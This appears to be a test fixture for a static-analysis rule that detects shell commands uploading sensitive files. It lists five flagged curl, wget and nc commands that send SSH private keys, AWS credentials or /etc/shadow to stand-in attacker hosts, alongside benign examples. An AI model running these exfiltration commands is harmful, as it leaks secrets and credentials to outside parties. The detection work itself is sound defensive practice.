# ruleid: bash.upload-sensitive-file
curl -F "file=@$HOME/.ssh/id_rsa" https://203.0.113.1/upload
# ruleid: bash.upload-sensitive-file
curl -X POST --data-binary @~/.aws/credentials http://collect.example.net/
# ruleid: bash.upload-sensitive-file
wget --post-file=/etc/shadow http://198.51.100.6/
# ruleid: bash.upload-sensitive-file
nc 203.0.113.9 9000 < ~/.ssh/id_ed25519
# ruleid: bash.upload-sensitive-file
tar czf - ~/.ssh/id_rsa ~/.aws/credentials | nc attacker.example 443
# ok: bash.upload-sensitive-file
curl -F "file=@report.pdf" https://api.example.com/upload
# ok: bash.upload-sensitive-file
curl -T ~/.ssh/id_rsa.pub https://keys.example.com/me
# ok: bash.upload-sensitive-file
cat ~/.ssh/id_rsa.pub
# ok: bash.upload-sensitive-file
curl -d @payload.json -H 'Content-Type: application/json' https://api.example.com/items
